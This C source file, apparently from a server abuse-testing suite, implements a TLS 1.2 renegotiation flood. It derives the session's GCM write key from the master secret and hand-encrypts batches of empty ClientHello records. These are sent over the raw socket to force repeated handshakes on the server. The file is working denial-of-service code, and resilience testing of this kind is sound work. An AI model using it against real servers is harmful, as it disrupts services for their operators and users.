/* renegotiate - asks for a new handshake again and again, within TLS 1.2. A TLS library asks
 * once and then waits, so the records are written by hand (RFC 5246, 6.3; RFC 5288). */
#include "tests/abuse/attacks.h"

#include <openssl/core_names.h>
#include <openssl/evp.h>
#include <openssl/kdf.h>
#include <string.h>

#define BATCH    100
#define EXPLICIT 8
#define TAG      16

static const uint8_t CLIENT_HELLO[4] = {1, 0, 0, 0}; /* an empty one; the server refuses it */

struct writer {
    EVP_CIPHER_CTX *ctx;
    uint64_t seq;
    uint8_t salt[4];
};

/* key_block of RFC 5246, 6.3. */
static bool expand(SSL *tls, uint8_t *out, size_t n)
{
    const EVP_MD *md = SSL_CIPHER_get_handshake_digest(SSL_get_current_cipher(tls));
    uint8_t seed[13 + 2 * SSL3_RANDOM_SIZE] = "key expansion",
                          master[SSL_MAX_MASTER_KEY_LENGTH];
    size_t len = SSL_SESSION_get_master_key(SSL_get_session(tls), master, sizeof(master));
    EVP_KDF *kdf = EVP_KDF_fetch(NULL, OSSL_KDF_NAME_TLS1_PRF, NULL);
    EVP_KDF_CTX *ctx = EVP_KDF_CTX_new(kdf);
    OSSL_PARAM with[4];
    bool ok;

    SSL_get_server_random(tls, seed + 13, SSL3_RANDOM_SIZE);
    SSL_get_client_random(tls, seed + 13 + SSL3_RANDOM_SIZE, SSL3_RANDOM_SIZE);
    with[0] = OSSL_PARAM_construct_utf8_string(OSSL_KDF_PARAM_DIGEST,
                                               (char *)(uintptr_t)EVP_MD_get0_name(md), 0);
    with[1] = OSSL_PARAM_construct_octet_string(OSSL_KDF_PARAM_SECRET, master, len);
    with[2] = OSSL_PARAM_construct_octet_string(OSSL_KDF_PARAM_SEED, seed, sizeof(seed));
    with[3] = OSSL_PARAM_construct_end();
    ok = EVP_KDF_derive(ctx, out, n, with) == 1;
    EVP_KDF_CTX_free(ctx);
    EVP_KDF_free(kdf);
    return ok;
}

static bool begin(struct writer *w, SSL *tls)
{
    const char *name = OBJ_nid2sn(SSL_CIPHER_get_cipher_nid(SSL_get_current_cipher(tls)));
    const EVP_CIPHER *cipher = EVP_get_cipherbyname(name);
    uint8_t block[2 * EVP_MAX_KEY_LENGTH + 8];
    size_t key;

    if (SSL_version(tls) != TLS1_2_VERSION || cipher == NULL ||
        EVP_CIPHER_get_mode(cipher) != EVP_CIPH_GCM_MODE)
        return false;
    key = (size_t)EVP_CIPHER_get_key_length(cipher);
    if (!expand(tls, block, 2 * key + 8))
        return false;
    memcpy(w->salt, block + 2 * key, sizeof(w->salt));
    w->seq = 2; /* after Finished and the record of peer_hello */
    w->ctx = EVP_CIPHER_CTX_new();
    return EVP_EncryptInit_ex(w->ctx, cipher, NULL, block, NULL) == 1;
}

static void number(uint8_t out[8], uint64_t v)
{
    for (int i = 0; i < 8; i++)
        out[i] = (uint8_t)(v >> (56 - 8 * i));
}

static void put_hello(struct bytes *b, struct writer *w)
{
    uint8_t record[5 + EXPLICIT + sizeof(CLIENT_HELLO) + TAG] = {
        22, 3, 3, 0, EXPLICIT + sizeof(CLIENT_HELLO) + TAG};
    uint8_t about[13] = {[8] = 22, 3, 3, 0, sizeof(CLIENT_HELLO)}, nonce[12], *body;
    int n;

    body = record + 5 + EXPLICIT;
    number(about, w->seq);
    number(record + 5, w->seq++);
    memcpy(nonce, w->salt, sizeof(w->salt));
    memcpy(nonce + 4, record + 5, EXPLICIT);
    EVP_EncryptInit_ex(w->ctx, NULL, NULL, NULL, nonce);
    EVP_EncryptUpdate(w->ctx, NULL, &n, about, sizeof(about));
    EVP_EncryptUpdate(w->ctx, body, &n, CLIENT_HELLO, sizeof(CLIENT_HELLO));
    EVP_EncryptFinal_ex(w->ctx, body + n, &n);
    EVP_CIPHER_CTX_ctrl(w->ctx, EVP_CTRL_AEAD_GET_TAG, TAG, body + sizeof(CLIENT_HELLO));
    put(b, record, sizeof(record));
}

bool renegotiations(struct peer *p)
{
    struct peer bare = {.fd = p->fd}; /* below TLS */
    struct bytes b = {0};
    struct writer w = {0};
    bool ok = begin(&w, p->tls);

    for (int i = 0; ok && i < options.n; i += BATCH) {
        b.n = 0;
        for (int k = 0; k < BATCH; k++)
            put_hello(&b, &w);
        ok = peer_send(&bare, b.p, b.n);
        if (ok)
            atomic_fetch_add(&sent, BATCH);
    }
    ok = ok && peer_listen(&bare, 0.3);
    p->n_read += bare.n_read;
    EVP_CIPHER_CTX_free(w.ctx);
    drop(&b);
    return ok;
}
